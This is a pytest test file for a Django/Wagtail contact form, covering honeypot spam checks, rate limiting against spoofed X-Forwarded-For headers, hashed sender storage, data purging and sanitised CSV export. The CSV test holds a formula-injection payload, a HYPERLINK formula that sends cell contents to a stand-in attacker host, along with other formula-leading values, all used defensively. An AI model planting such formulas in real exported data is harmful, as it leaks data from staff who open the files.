import csv
import datetime
import io
import json
import re

import pytest

from django.core import mail
from django.core.cache import cache
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from wagtail.contrib.forms.models import FormSubmission

from contact.models import SubmissionOrigin
from contact.ratelimit import allow_submission, client_key
from home.client_address import client_address
from home.outages import cache_outage
from tests.factories import HONEST

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()
    yield
    cache.clear()


def test_the_form_links_the_privacy_page_and_hides_the_honeypot(client, contact):
    html = client.get("/contact/").content.decode()
    assert 'href="/privacy/"' in html
    assert 'class="hub-form__trap" aria-hidden="true"' in html
    assert 'name="hrcn_hp"' in html


def test_a_submission_is_stored_e_mailed_and_thanked(client, contact):
    response = client.post("/contact/", HONEST)
    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    submission = FormSubmission.objects.get(page=contact)
    assert submission.get_data()["your_message"] == HONEST["your_message"]
    assert "hrcn_hp" not in submission.form_data
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["staff@example.org"]
    assert "How do other cities monitor human rights?" in mail.outbox[0].body


def test_errors_sit_next_to_fields_and_keep_what_was_typed(client, contact):
    data = {**HONEST, "your_e_mail_address": "not-an-address"}
    del data["consent"]
    html = client.post("/contact/", data).content.decode()
    assert 'role="alert"' in html
    assert 'aria-describedby="id_your_e_mail_address_helptext id_your_e_mail_address_error"' in html
    assert 'id="id_your_e_mail_address_error"' in html
    assert 'aria-invalid="true"' in html
    assert 'id="id_consent_error"' in html
    assert 'value="not-an-address"' in html
    assert "How do other cities monitor human rights?" in html
    assert not FormSubmission.objects.filter(page=contact).exists()


def test_the_honeypot_rejects_without_losing_input(client, contact):
    html = client.post("/contact/", {**HONEST, "hrcn_hp": "http://spam.example"}).content.decode()
    assert "could not be sent" in html
    assert 'value="Ana Example"' in html
    assert not FormSubmission.objects.filter(page=contact).exists()
    assert mail.outbox == []


def test_the_rate_limit_rejects_without_losing_input(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 2
    for _ in range(2):
        assert client.post("/contact/", HONEST).status_code == 200
    response = client.post("/contact/", {**HONEST, "your_message": "A third message"})
    assert response.status_code == 429
    html = response.content.decode()
    assert "Too many messages" in html
    assert "A third message" in html
    assert FormSubmission.objects.filter(page=contact).count() == 2
    other = client.post("/contact/", HONEST, REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 200


def test_showing_the_form_counts_nothing(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 1
    for _ in range(3):
        client.get("/contact/")
    assert client.post("/contact/", HONEST).status_code == 200


def test_join_form_exists(client):
    html = client.get("/join/").content.decode()
    assert "Why does your city want to join?" in html


def purge(*args):
    out = io.StringIO()
    call_command("purge_form_submissions", *args, stdout=out)
    return out.getvalue()


def test_purge_deletes_only_expired_submissions_and_is_idempotent(contact):
    contact.retention_days = 30
    contact.save()
    old = FormSubmission.objects.create(page=contact, form_data={})
    FormSubmission.objects.filter(pk=old.pk).update(
        submit_time=timezone.now() - datetime.timedelta(days=31)
    )
    recent = FormSubmission.objects.create(page=contact, form_data={})
    assert "1 submissions would be deleted." in purge("--dry-run")
    assert FormSubmission.objects.filter(page=contact).count() == 2
    assert "1 submissions deleted." in purge()
    assert list(FormSubmission.objects.filter(page=contact)) == [recent]
    assert "0 submissions deleted." in purge()
    assert list(FormSubmission.objects.filter(page=contact)) == [recent]


def test_purge_counts_submissions_once_and_forgets_senders_after_the_window(
    client, contact, settings
):
    settings.HRCN_FORM_RATE_WINDOW = 3600
    contact.retention_days = 30
    contact.save()
    for _ in range(2):
        client.post("/contact/", HONEST)
    old, recent = FormSubmission.objects.filter(page=contact).order_by("pk")
    FormSubmission.objects.filter(pk=old.pk).update(
        submit_time=timezone.now() - datetime.timedelta(days=31)
    )
    FormSubmission.objects.filter(pk=recent.pk).update(
        submit_time=timezone.now() - datetime.timedelta(hours=2)
    )
    assert SubmissionOrigin.objects.count() == 2

    output = purge()
    assert "1 submissions deleted." in output
    assert "1 senders older than 3600 seconds deleted." in output
    assert list(FormSubmission.objects.filter(page=contact)) == [recent]
    assert not SubmissionOrigin.objects.exists()


# The rate limit ---------------------------------------------------------------


def test_invalid_posts_do_not_use_up_the_limit(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 2
    empty = {"your_name": "", "your_e_mail_address": "", "your_message": ""}
    for data in [empty, {**HONEST, "consent": ""}, {**HONEST, "hrcn_hp": "spam"}]:
        response = client.post("/contact/", data)
        assert response.status_code == 200
        assert 'role="alert"' in response.content.decode()
    for _ in range(2):
        assert "Thank you" in client.post("/contact/", HONEST).content.decode()
    assert client.post("/contact/", HONEST).status_code == 429
    assert FormSubmission.objects.filter(page=contact).count() == 2


def test_an_invalid_post_over_the_limit_still_shows_its_errors(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 1
    client.post("/contact/", HONEST)
    response = client.post("/contact/", {**HONEST, "your_e_mail_address": "nope"})
    assert response.status_code == 200
    assert 'id="id_your_e_mail_address_error"' in response.content.decode()
    assert "Too many messages" not in response.content.decode()


def test_the_sender_is_stored_only_as_a_keyed_hash(client, contact):
    client.post("/contact/", HONEST, REMOTE_ADDR="203.0.113.5")
    submission = FormSubmission.objects.get(page=contact)
    origin = SubmissionOrigin.objects.get(submission=submission)
    request = RequestFactory().post("/contact/", REMOTE_ADDR="203.0.113.5")
    assert origin.client_key == client_key(request)
    assert len(origin.client_key) == 64
    assert "203.0.113.5" not in origin.client_key
    assert "203.0.113.5" not in json.dumps(submission.form_data)


BEHIND_PROXY = {"REMOTE_ADDR": "10.0.0.2"}


def test_two_clients_behind_one_proxy_have_their_own_limits(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 1
    settings.HRCN_TRUSTED_PROXY_COUNT = 1
    ana = {**BEHIND_PROXY, "HTTP_X_FORWARDED_FOR": "203.0.113.5"}
    bo = {**BEHIND_PROXY, "HTTP_X_FORWARDED_FOR": "198.51.100.9"}
    assert client.post("/contact/", HONEST, **ana).status_code == 200
    assert client.post("/contact/", HONEST, **ana).status_code == 429
    assert client.post("/contact/", HONEST, **bo).status_code == 200


def test_a_spoofed_forwarded_for_does_not_evade_the_limit(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 1
    settings.HRCN_TRUSTED_PROXY_COUNT = 1
    # The attacker sends an X-Forwarded-For of its own; our proxy appends the
    # address it really came from.
    for step, spoofed in enumerate(["192.0.2.1", "192.0.2.2", "unknown", "192.0.2.3, 192.0.2.4"]):
        forwarded = f"{spoofed}, 203.0.113.66"
        response = client.post("/contact/", HONEST, HTTP_X_FORWARDED_FOR=forwarded, **BEHIND_PROXY)
        assert response.status_code == (200 if step == 0 else 429)
    assert FormSubmission.objects.filter(page=contact).count() == 1


def test_without_trusted_proxies_forwarded_for_is_ignored(client, contact, settings):
    settings.HRCN_FORM_RATE_LIMIT = 1
    settings.HRCN_TRUSTED_PROXY_COUNT = 0
    first = client.post("/contact/", HONEST, HTTP_X_FORWARDED_FOR="203.0.113.5")
    second = client.post("/contact/", HONEST, HTTP_X_FORWARDED_FOR="198.51.100.9")
    assert (first.status_code, second.status_code) == (200, 429)


@pytest.mark.parametrize(
    ("proxies", "forwarded", "expected"),
    [
        (0, "203.0.113.5", "10.0.0.2"),
        (1, "203.0.113.5", "203.0.113.5"),
        (1, "192.0.2.1, 203.0.113.5", "203.0.113.5"),
        (2, "192.0.2.1, 203.0.113.5, 10.0.0.9", "203.0.113.5"),
        (2, "203.0.113.5", "10.0.0.2"),  # shorter than our proxies: not theirs
        (1, None, "10.0.0.2"),
        (1, "", "10.0.0.2"),
        (1, "unknown", "10.0.0.2"),
        (1, "203.0.113.5:4711", "10.0.0.2"),
        (1, "203.0.113.5,", "10.0.0.2"),
        (1, " 2001:DB8::0:1 ", "2001:db8::1"),
        (1, "::ffff:203.0.113.5", "203.0.113.5"),
    ],
)
def test_client_address(settings, proxies, forwarded, expected):
    settings.HRCN_TRUSTED_PROXY_COUNT = proxies
    headers = {} if forwarded is None else {"HTTP_X_FORWARDED_FOR": forwarded}
    request = RequestFactory().post("/contact/", **BEHIND_PROXY, **headers)
    assert client_address(request) == expected


CLOSED_PORT = "redis://127.0.0.1:1/0"  # a Redis that is not there


@pytest.fixture
def cache_down(settings, monkeypatch):
    """The shared cache as production configures it, with Redis down. The
    backend remembers an outage process-wide; the test leaves that as it was."""
    monkeypatch.setattr(cache_outage, "skip_until", cache_outage.skip_until)
    monkeypatch.setattr(cache_outage, "down", cache_outage.down)
    settings.CACHES = {
        "default": {"BACKEND": "home.outages.FailSoftRedisCache", "LOCATION": CLOSED_PORT}
    }


def test_the_limit_counts_stored_submissions_while_the_cache_is_down(
    client, contact, settings, cache_down
):
    settings.HRCN_FORM_RATE_LIMIT = 2
    assert client.post("/contact/", {**HONEST, "consent": ""}).status_code == 200
    for _ in range(2):
        response = client.post("/contact/", HONEST)
        assert response.status_code == 200
        assert "Thank you" in response.content.decode()
    response = client.post("/contact/", {**HONEST, "your_message": "A third message"})
    assert response.status_code == 429
    assert "A third message" in response.content.decode()
    assert FormSubmission.objects.filter(page=contact).count() == 2
    assert client.post("/contact/", HONEST, REMOTE_ADDR="192.0.2.7").status_code == 200


def test_submissions_counted_in_the_cache_still_count_when_it_fails(
    client, contact, settings, request
):
    settings.HRCN_FORM_RATE_LIMIT = 2
    assert client.post("/contact/", HONEST).status_code == 200
    request.getfixturevalue("cache_down")
    assert client.post("/contact/", HONEST).status_code == 200
    assert client.post("/contact/", HONEST).status_code == 429


def test_any_cache_error_falls_back_to_the_database(contact, settings):
    # Django's own Redis backend raises on every call while Redis is down.
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": CLOSED_PORT,
        }
    }
    settings.HRCN_FORM_RATE_LIMIT = 3
    asked = []

    def count_stored(key, since):
        asked.append((key, since))
        return 2

    assert allow_submission("some-client", count_stored)
    assert asked[0][0] == "some-client"
    window = datetime.timedelta(seconds=settings.HRCN_FORM_RATE_WINDOW)
    assert abs(timezone.now() - window - asked[0][1]) < datetime.timedelta(seconds=5)
    settings.HRCN_FORM_RATE_LIMIT = 2
    assert not allow_submission("some-client", count_stored)


# Field lengths ----------------------------------------------------------------


def test_fields_announce_their_maximum_length(client, contact):
    html = client.get("/contact/").content.decode()
    assert 'name="your_name" maxlength="255"' in html
    assert 'name="your_e_mail_address" maxlength="254"' in html
    assert re.search(r'<textarea name="your_message"[^>]* maxlength="5000"', html)


@pytest.mark.parametrize(
    ("field", "value", "limit"),
    [
        ("your_message", "x" * 1024 * 1024, 5000),
        ("your_name", "x" * 256, 255),
        ("your_e_mail_address", "a" * 64 + "@" + "b" * 186 + ".org", 254),
    ],
)
def test_an_overlong_value_is_refused_with_a_clear_error(client, contact, field, value, limit):
    response = client.post("/contact/", {**HONEST, field: value})
    assert response.status_code == 200
    html = response.content.decode()
    assert f"at most {limit} characters" in html
    assert f'id="id_{field}_error"' in html
    assert not FormSubmission.objects.filter(page=contact).exists()
    assert mail.outbox == []


def test_the_longest_allowed_message_is_accepted(client, contact):
    response = client.post("/contact/", {**HONEST, "your_message": "x" * 5000})
    assert "Thank you" in response.content.decode()


# CSV export -------------------------------------------------------------------


def test_the_csv_export_cannot_carry_formulas(admin_client, contact):
    FormSubmission.objects.create(
        page=contact,
        form_data={
            "your_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            "your_e_mail_address": "ana@example.org",
            "organisation_or_city": "@SUM(1+1)",
            "your_message": "-2+3",
        },
    )
    FormSubmission.objects.create(
        page=contact,
        form_data={
            "your_name": "+1 555 0100",
            "your_e_mail_address": "bo@example.org",
            "organisation_or_city": "\t=1+1",
            "your_message": "\r=1+1",
        },
    )
    url = reverse("wagtailforms:list_submissions", args=[contact.pk])
    assert admin_client.get(url).status_code == 200
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [row["Your name"] for row in rows] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "'+1 555 0100",
    ]
    assert [row["Organisation or city"] for row in rows] == ["'@SUM(1+1)", "'\t=1+1"]
    assert [row["Your message"] for row in rows] == ["'-2+3", "'\r=1+1"]
    # What starts harmlessly is left alone.
    assert [row["Your e-mail address"] for row in rows] == ["ana@example.org", "bo@example.org"]
